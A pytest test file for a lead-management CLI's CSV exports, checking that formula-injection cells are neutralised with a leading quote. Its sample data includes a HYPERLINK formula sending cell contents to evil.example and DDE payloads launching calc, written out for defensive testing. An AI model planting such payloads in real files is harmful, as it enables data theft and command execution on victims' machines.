"""Every CSV cadence writes is safe to open in a spreadsheet: no cell runs as a formula.

The exports are the rejects file of ``cadence leads import``, ``cadence report --csv`` and
``cadence postcards export``; all of them go through :mod:`cadence.adapters.csv_safety`. A cell is
safe when it does not start with ``=``, ``+``, ``-``, ``@``, a tab, CR, LF or NUL (nor with
``=``, ``+``, ``-``, ``@`` after leading spaces), or when it is a plain number such as ``-5``.
Every file is read as a spreadsheet in any locale may read it: with ``,``, ``;`` or a tab as the
separator, whatever separator the file uses (#28: ``x;=cmd|' /C calc'!A0``).
"""

from __future__ import annotations

import codecs
import csv
import io
import re
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from cadence.adapters.csv_headers import normalize_header
from cadence.adapters.csv_leads import ParsedCsv, RowError
from cadence.adapters.csv_rejects import write_rejects
from cadence.adapters.csv_safety import csv_cell, neutralize_formula
from cadence.adapters.models import Lead, Task
from cadence.services.context import Context
from tests.conftest import Cli

# The subject is the CSV cells, not the SQL that reads them: SQLite only (see tests/conftest.py).
pytestmark = pytest.mark.one_database

ROOT = Path(__file__).resolve().parents[2]
NOW = "2026-11-23T14:00:00+00:00"  # a Monday
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|'/c calc'!A1"
HOSTILE_CELLS = [
    FORMULA,
    DDE,
    "+1+cmd|'/c calc'!A1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0@SUM(1)",
    "-",
    "+",
    "=",
    "@",
    "x;=cmd|' /C calc'!A0",  # from here on, cells a spreadsheet may split (#28)
    "x\t -2+3",
    'x,"=1+1"',
    "a;@SUM(1)",
    "1 Main St\n@SUM(1)",
]
# Written by hand, apart from the product's own pattern, so that the two can disagree.
PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?")


def is_safe(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` as data (text, or a plain number), never as a formula."""
    if PLAIN_NUMBER.fullmatch(cell):
        return True
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\x00"):
        return False
    return cell.lstrip()[:1] not in ("=", "+", "-", "@")


SEPARATORS = (",", ";", "\t")


def is_safe_inside(piece: str) -> bool:
    """Whether text a spreadsheet starts a cell with, after a separator inside one of our cells, is data."""
    if PLAIN_NUMBER.fullmatch(piece):
        return True
    return piece[:1] != "\x00" and piece.lstrip().lstrip('"').lstrip()[:1] not in ("=", "+", "-", "@")


def unsafe_cells(text: str, delimiter: str = ",") -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as a formula, whichever separator it splits on:
    the file's own (``delimiter``: every cell is one of ours) or another (a cell may start inside ours)."""
    unsafe = []
    for separator in SEPARATORS:
        rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator)
        safe = is_safe if separator == delimiter else is_safe_inside
        unsafe += [cell for row in rows for cell in row if not safe(cell)]
    return unsafe


def only_quotes_added(written: str, original: str) -> bool:
    """Whether ``written`` is ``original`` with a ``'`` added in front and after separators, nothing else."""
    if written in (original, "'" + original):
        return True
    unquote = re.compile(r"(^|[,;\t\r\n])'")
    return written.replace("'", "") == original.replace("'", "") and unquote.sub(r"\1", written) in (
        original,
        unquote.sub(r"\1", original),
    )


def unsafe_inside(cell: str) -> list[str]:
    """The texts a spreadsheet splitting on ``,``, ``;``, a tab or a line break would start a cell with, inside
    ``cell``, and run as a formula."""
    return [
        piece
        for separator in SEPARATORS
        for piece in re.split(f"[{re.escape(separator)}\r\n]", cell)[1:]
        if not is_safe_inside(piece)
    ]


# --- the shared function ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=A1", "'=A1"),
        (DDE, "'" + DDE),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("-5 apples", "'-5 apples"),
        ("\t=A1", "'\t'=A1"),  # a tab or a line break starts a cell for some readers: both places get one
        ("\r=A1", "'\r'=A1"),
        ("\n=A1", "'\n'=A1"),
        ("\tA1", "'\tA1"),
        ("\x00=A1", "'\x00=A1"),
        ("  =A1", "'  =A1"),
        ("\u00a0-1+1", "'\u00a0-1+1"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("a=b", "a=b"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("", ""),
        ("'=A1", "'=A1"),  # already neutralised: left alone, so neutralising twice changes nothing
        ("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"),  # a cell once ';' separates cells
        ('x,"=1+1"', 'x,\'"=1+1"'),
        ("x\t -2+3", "x\t' -2+3"),
        ("a;-5;+3", "a;-5;+3"),  # plain numbers stay numbers
        ("Paris; France, EU", "Paris; France, EU"),
        ("=A1;=B1", "'=A1;'=B1"),
    ],
)
def test_text_that_a_spreadsheet_would_run_as_a_formula_gets_a_quote_in_front(cell: str, written: str) -> None:
    assert neutralize_formula(cell) == written


@pytest.mark.parametrize("number", ["-5", "+3", "-0.25", "-.5", "12", "1e-3", "-2E+10", "0"])
def test_a_plain_number_stays_a_number_a_spreadsheet_can_add_up(number: str) -> None:
    assert neutralize_formula(number) == number
    assert csv_cell(number) == number


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-5, -5), (3, 3), (-0.25, -0.25), (None, ""), (True, "True"), (float("-inf"), "'-inf"), (FORMULA, "'" + FORMULA)],
)
def test_numbers_are_written_as_numbers_and_everything_else_as_neutralised_text(
    value: object, cell: str | int | float
) -> None:
    assert csv_cell(value) == cell


@settings(max_examples=400, deadline=None, database=None)
@given(
    st.text(max_size=30)
    | st.sampled_from(HOSTILE_CELLS).flatmap(lambda c: st.just(c) | st.text(max_size=5).map(c.__add__))
)
def test_any_text_comes_out_safe_and_the_original_is_the_cell_without_its_quote(text: str) -> None:
    written = neutralize_formula(text)

    assert is_safe(written)
    assert unsafe_inside(written) == []
    assert neutralize_formula(written) == written
    assert only_quotes_added(written, text)
    if not any(separator in text for separator in (*SEPARATORS, "\r", "\n")):
        assert written in (text, "'" + text)


def test_every_module_that_writes_csv_is_one_whose_output_is_checked_here() -> None:
    writers = sorted(
        str(path.relative_to(ROOT))
        for path in (ROOT / "src").rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    )
    # A new CSV export must use cadence.adapters.csv_safety and get a test below, then join this list.
    assert writers == [
        "src/cadence/adapters/csv_rejects.py",
        "src/cadence/services/postcards.py",
        "src/cadence/services/reports/render.py",
    ]
    for path in writers:
        assert "cadence.adapters.csv_safety import" in (ROOT / path).read_text(encoding="utf-8"), path


# --- the rejects file ------------------------------------------------------------------------------------------


@settings(max_examples=150, deadline=None, database=None)
@given(
    st.sampled_from([",", ";", "\t"]),
    st.lists(st.sampled_from(HOSTILE_CELLS) | st.text(max_size=12), min_size=1, max_size=6),
    (st.sampled_from(HOSTILE_CELLS) | st.text(min_size=1, max_size=12)).filter(
        lambda header: normalize_header(header) not in {"email", "c0", "c1", "c2", "c3", "c4", "c5"}
    ),
)
def test_the_rejects_file_never_holds_a_formula_whatever_the_cells_and_headers(
    delimiter: str, cells: list[str], header: str
) -> None:
    names = [f"c{i}" for i in range(len(cells))]
    raw = {"email": cells[0], **dict(zip(names, cells, strict=True))}
    parsed = ParsedCsv(
        headers=["email", header, *names],
        rows=[],
        errors=[RowError(2, f"email {cells[0]!r} is not valid", raw)],
        delimiter=delimiter,
    )
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "rejects.csv"
        write_rejects(target, parsed)
        text = target.read_bytes().decode("utf-8-sig")

    assert unsafe_cells(text, delimiter) == []
    header_row, row = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    assert only_quotes_added(header_row[3], header)
    for written, original in zip(row[4:], cells, strict=True):
        assert only_quotes_added(written, original)


def test_the_rejects_file_of_a_real_import_neutralises_formulas_and_keeps_a_negative_count_a_number(
    run_cli: Cli, tmp_path: Path
) -> None:
    run_cli("reps", "add", "rita@cadence.example", "--name", "Rita", "--now", NOW)
    source = tmp_path / "leads.csv"
    lines = ['email,company,title,interactions,=HYPERLINK("x")']
    for index, cell in enumerate(HOSTILE_CELLS):
        quoted = '"' + cell.replace('"', '""') + '"'
        lines.append(f"{cell if index % 2 else quoted},{quoted},{quoted},-5,{quoted}")
    source.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"

    result = run_cli("leads", "import", str(source), "--rejects", str(rejects), "--now", NOW, "--json", expect=3)

    assert result.json()["rejected"] == len(HOSTILE_CELLS)
    raw = rejects.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    text = raw.decode("utf-8-sig")
    assert unsafe_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {row["interactions"] for row in rows} == {"-5"}  # a plain number: still a number in the spreadsheet
    assert rows[0]["company"] == "'" + FORMULA
    assert '\'=HYPERLINK("x")' in rows[0]


# --- cadence report --csv --------------------------------------------------------------------------------------


def test_report_csv_neutralises_formulas_in_rep_and_lead_emails_and_in_reasons(run_cli: Cli, tmp_path: Path) -> None:
    run_cli("reps", "add", "=rita@cadence.example", "--name", "@Rita", "--now", NOW)
    source = tmp_path / "leads.csv"
    source.write_text(
        "email,first_name,company,title,industry,company_size,country,source,interactions\r\n"
        f'+ada@acme.example,-Ada,"{FORMULA.replace(chr(34), chr(34) * 2)}",VP Engineering,Software,500,US,'
        "=webinar,3\r\n"
        "-bob@acme.example,@Bob,Acme,VP Engineering,Software,500,US,webinar,3\r\n",
        encoding="utf-8",
    )
    run_cli("leads", "import", str(source), "--now", NOW)
    run_cli("decide", "+ada@acme.example", "--outcome", "meeting_booked", "--skip-qualification", "--reason", DDE,
            "--now", "2026-11-24T10:00:00Z")  # fmt: skip
    run_cli("decide", "--outcome", "not_interested", "--reason", "-1+1", "--now", NOW, "--", "-bob@acme.example")

    out = run_cli("report", "--csv", "--since", "2026-11-01", "--now", "2026-11-30T00:00:00Z").stdout

    rows = list(csv.DictReader(io.StringIO(out)))
    assert unsafe_cells(out) == []
    cell = {(r["section"], r["item"], r["metric"]): r["value"] for r in rows}
    assert cell[("meetings_without_answers", "'+ada@acme.example", "reason")] == "'" + DDE
    assert cell[("owners", "'=rita@cadence.example", "leads")] == "2"


# --- cadence postcards export ----------------------------------------------------------------------------------


def test_postcards_csv_neutralises_every_hostile_field_of_the_lead_and_the_copy(
    run_cli: Cli, ctx: Context, tmp_path: Path
) -> None:
    run_cli("reps", "add", "rita@cadence.example", "--name", "Rita", "--now", NOW)
    source = tmp_path / "leads.csv"
    source.write_text(
        "email,first_name,last_name,company,address_line1,address_line2,city,postal_code,interactions\r\n"
        f'-ann@acme.example,=Ann,+Lee,"{FORMULA.replace(chr(34), chr(34) * 2)}",@1 Main St,\t=2,-Paris,+75001,1\r\n',
        encoding="utf-8",
    )
    run_cli("leads", "import", str(source), "--no-enroll", "--now", NOW)
    with ctx.sessions() as s, s.begin():
        lead = s.scalars(select(Lead)).one()
        s.add(
            Task(
                lead_id=lead.id,
                owner_id=lead.owner_id,
                channel="postcard",
                title="Postcard",
                instructions=DDE,
                due_at=datetime(2026, 11, 23, 9, tzinfo=UTC),
                created_at=datetime(2026, 11, 23, 9, tzinfo=UTC),
            )
        )

    out = run_cli("postcards", "export", "--csv", "--now", NOW).stdout

    assert unsafe_cells(out) == []
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["email"] == "'-ann@acme.example"
    assert row["company"] == "'" + FORMULA
    assert row["copy"] == "'" + DDE
    assert row["name"] == "'=Ann +Lee"
    assert row["address"].startswith("'@1 Main St")
    assert int(row["task"]) > 0
